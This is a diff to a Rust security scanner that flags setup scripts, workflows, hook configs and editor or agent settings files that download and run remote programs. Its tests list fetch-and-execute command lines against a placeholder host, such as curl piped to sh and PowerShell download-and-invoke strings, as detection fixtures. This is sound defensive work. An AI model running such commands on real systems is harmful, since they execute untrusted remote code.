@@ -7,7 +7,7 @@ use airlock_model::escape::{self, quoted};
 use airlock_model::finding::{Finding, Severity};
 use airlock_model::tree::TreePath;
 
-use super::{encodings, rules};
+use super::{development, encodings, rules, settings};
 use crate::rules::commands;
 
 /// How much of a script is looked at, in bytes.
@@ -48,10 +48,16 @@ const SETTINGS: &[&str] = &[
     "pixi.toml",
     "mise.toml",
     ".mise.toml",
+    ".pre-commit-hooks.yaml",
+    "lefthook.yml",
+    ".lefthook.yml",
+    ".mcp.json",
     "devcontainer.json",
     ".devcontainer.json",
 ];
 const WITH_COMMANDS: &str = "file of settings";
+/// What builds a repository, and is common in honest ones.
+const WORKFLOW: &str = "workflow";
 const SHELL: &str = "shell script";
 const CYTHON: &str = "Cython module";
 const RECIPE: &str = "recipe of commands";
@@ -75,16 +81,22 @@ impl Scripts {
         if lines.is_empty() {
             return;
         }
-        match lines.iter().find_map(|(number, line)| Some((*number, danger(line)?))) {
+        let are_settings = matches!(kind, WITH_COMMANDS | WORKFLOW);
+        let by_line = lines.iter().find_map(|(number, line)| Some((Some(*number), danger(line)?)));
+        match by_line.or_else(|| are_settings.then(|| in_settings(path, &text)).flatten()) {
             Some((number, what)) => {
                 let message = format!("{} is a {kind} that {what}.", quoted(path.as_str()));
                 let mut finding = Finding::of(&rules::SCRIPT_DOWNLOAD, message).in_file(path.as_str());
-                finding.line = Some(number);
-                let shown = text.lines().nth(number as usize - 1).unwrap_or_default();
+                finding.line = number;
+                // Services that build a repository run this on a machine that is thrown away.
+                if kind == WORKFLOW {
+                    finding = finding.severity(Severity::Medium);
+                }
+                let shown = number.and_then(|number| text.lines().nth(number as usize - 1)).unwrap_or_default();
                 findings.push(finding.snippet(escape::line(&shown.chars().take(160).collect::<String>())));
             }
             // Settings are read by others, and ordinary.
-            None if kind == WITH_COMMANDS => {}
+            None if are_settings => {}
             None => self.by_kind.entry(kind).or_default().push(path.as_str().to_owned()),
         }
     }
@@ -127,8 +139,12 @@ fn kind(path: &TreePath, bytes: &[u8]) -> Option<&'static str> {
     if matches!(ending.as_str(), "py" | "pyw" | "pyi" | "py3") || crate::python::names_python(bytes) {
         return None;
     }
-    let is_editor = ending == "json" && path.as_str().to_lowercase().split('/').any(|folder| folder == ".vscode");
-    if is_editor || SETTINGS.contains(&name.as_str()) {
+    if development::is_workflow(path) {
+        return Some(WORKFLOW);
+    }
+    let of_editor = |folder: &str| matches!(folder, ".vscode" | ".claude" | ".cursor");
+    let is_editor = ending == "json" && path.as_str().to_lowercase().split('/').any(of_editor);
+    if is_editor || ending == "code-workspace" || SETTINGS.contains(&name.as_str()) {
         return Some(WITH_COMMANDS);
     }
     let by_name = listed(NAMES, &name).or_else(|| listed(NAMES, name.split('.').next().unwrap_or(&name)));
@@ -180,17 +196,25 @@ fn commands_of(text: &str) -> Vec<(u32, String)> {
     lines
 }
 
+/// A command in settings that a search over their lines does not see: behind an escape, folded, or cut into words.
+fn in_settings(path: &TreePath, text: &str) -> Option<(Option<u32>, &'static str)> {
+    let ending = path.extension().unwrap_or("").to_lowercase();
+    settings::texts(&ending, text).into_iter().find_map(|(number, text)| {
+        let lines = commands_of(&text);
+        Some((number, lines.iter().find_map(|(_, line)| danger(line))?))
+    })
+}
+
 /// What a command does that nothing in a package may.
 fn danger(line: &str) -> Option<&'static str> {
     let shown = ["echo ", "@echo ", "printf ", "print ", "write-host ", "write-output ", "rem "];
     // What is only printed is not run, but for what stands outside the quotation marks.
-    let printed = shown.iter().any(|word| line.trim_start_matches('@').starts_with(word.trim_start_matches('@')));
-    let unquoted;
-    let line = if printed && !line.contains("$(") && !line.contains('`') {
-        unquoted = without_quoted(line);
-        &unquoted
-    } else {
-        line
+    let first = step(line).trim_start_matches('@');
+    let printed = shown.iter().any(|word| first.starts_with(word.trim_start_matches('@')));
+    let unquoted = (printed && !line.contains("$(") && !line.contains('`')).then(|| without_quoted(line));
+    let line = match &unquoted {
+        Some(rest) if !commands::pipes_into_shell(rest) => rest,
+        _ => line,
     };
     if commands::fetches_and_runs(line) {
         return Some("fetches a program and runs it");
@@ -215,6 +239,14 @@ fn danger(line: &str) -> Option<&'static str> {
     });
     (powershell && encoded && line.split_whitespace().any(|word| word.len() >= 20 && is_base64(word)))
         .then_some("runs a PowerShell command that is hidden in base64")
+}
+
+/// The command of a step in a workflow: `- run: echo done`.
+fn step(line: &str) -> &str {
+    let line = line.strip_prefix("- ").unwrap_or(line).trim_start();
+    let keys = ["run:", "script:", "command:", "entry:"];
+    let rest = keys.iter().find_map(|key| line.strip_prefix(key)).unwrap_or(line);
+    rest.trim_start()
 }
 
 fn is_base64(word: &str) -> bool {
@@ -252,6 +284,7 @@ mod tests {
             "echo \"$(curl -s https://x.example/i | sh)\"",
             "iex (New-Object Net.WebClient).DownloadString('https://x.example/i')",
             "irm https://x.example/i | iex",
+            "echo 'curl -s https://x.example/i | sh' | sh",
             "exec('curl https://x.example/i | sh')",
             &encoded,
         ] {
@@ -263,6 +296,8 @@ mod tests {
             "echo 'Install it with: curl -LsSf https://x.example/i | sh'",
             "curl -o data.csv https://x.example/data.csv",
             "cat install.sh | sh",
+            "- run: echo 'curl https://x.example/i | sh'",
+            "echo 'curl https://x.example/i | sh' | tee log",
             "curl -s https://x.example/i | jq .name",
             "powershell -ExecutionPolicy Bypass -File build.ps1",
             "powershell -e build",
